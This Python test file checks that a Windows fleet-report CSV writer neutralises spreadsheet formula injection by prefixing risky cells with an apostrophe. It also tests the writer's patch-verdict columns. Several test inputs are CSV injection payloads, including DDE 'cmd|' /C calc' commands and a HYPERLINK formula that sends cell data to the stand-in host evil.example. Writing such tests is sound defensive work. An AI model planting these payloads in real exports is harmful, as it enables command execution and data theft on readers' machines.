"""Devices written out again: no cell of the export becomes a formula, and ordinary ones stay as they were."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import date

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from osimages.windows.checks.checker import Checker
from osimages.windows.checks.evidence import Evidence
from osimages.windows.facts import bundled
from osimages.windows.fleet.devices import Device, Skipped
from osimages.windows.fleet.tally import Group
from osimages.windows.fleet.written import device_writer, inert


def written(names: Sequence[str], values: Sequence[str], *, as_it_is: bool = False) -> list[list[str]]:
    """The cells of a file with one device, as another program reads them, without those that are added."""
    file = io.StringIO(newline="")
    device_writer(file, names, as_it_is=as_it_is)(Device(2, Evidence(), values), Skipped.NOT_WINDOWS)
    file.seek(0)
    return [row[: len(names)] for row in csv.reader(file)]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tPC-1",
        "  =1+1",
        "\uff1d1+1",
        "-A1",
        "+1\n+cmd|x",
    ],
)
def test_what_might_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert inert(cell) == f"'{cell}"
    assert written([cell, "name"], ["PC-1", cell]) == [[f"'{cell}", "name"], ["PC-1", f"'{cell}"]]
    assert written([cell, "name"], ["PC-1", cell], as_it_is=True) == [[cell, "name"], ["PC-1", cell]]


@pytest.mark.parametrize(
    "cell",
    [
        *("", "PC-1", "-", "--", " - ", "-5", "+5.5", "-1,5", "-1.5e+10", "+49 (0)30 123-45", "-12:30", "+1/2", "1=1"),
        *("a@b.example", "x = y", "'=1", "10.0.26100.9445", " PC", "-\u0661"),
    ],
)
def test_ordinary_cells_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_one_apostrophe_is_all_that_changes(cell: str) -> None:
    assert inert(cell) in (cell, f"'{cell}")
    assert inert(cell).lstrip(" ")[:1] not in ("=", "@", "\t", "\r", "\n")


def test_an_answer_adds_its_verdict_level_and_action() -> None:
    file = io.StringIO(newline="")
    checker = Checker(bundled(), date(2026, 11, 29))
    write = device_writer(file, ["build"])
    for build in ("10.0.26200.9711", "14393.9688", "22631.446"):
        write(Device(2, Evidence(build), [build]), Group(checker.check(build), 1))
    file.seek(0)
    rows = {row["build"]: row for row in csv.DictReader(file)}
    behind, unclear, damaged = (rows[build] for build in ("10.0.26200.9711", "14393.9688", "22631.446"))
    assert (behind["osimages.verdict"], behind["osimages.patchLevel"]) == ("behind", "2026-10")
    assert behind["osimages.action"].startswith("install the November 2026 update: 10.0.26200.9974")
    assert unclear["osimages.candidates"] == "Windows 10 1607 or Windows Server 2016"
    assert (unclear["osimages.release"], unclear["osimages.verdict"]) == ("", "cannotTell")
    assert "a trailing zero may have been lost" in damaged["osimages.action"]
    assert damaged["osimages.patchLevel"] == ""


def test_texts_of_the_input_that_are_quoted_in_notes_are_no_formulas() -> None:
    file = io.StringIO(newline="")
    answer = msgspec.structs.replace(
        Checker(bundled(), date(2026, 11, 29)).check("nonsense"), notes=("=cmd|' /C calc'!A0",)
    )
    device_writer(file, ["build"])(Device(2, Evidence("nonsense"), ["nonsense"]), Group(answer, 1))
    file.seek(0)
    (row,) = csv.DictReader(file)
    assert row["osimages.notes"] == "'=cmd|' /C calc'!A0"
    assert row["osimages.action"].startswith("'=")
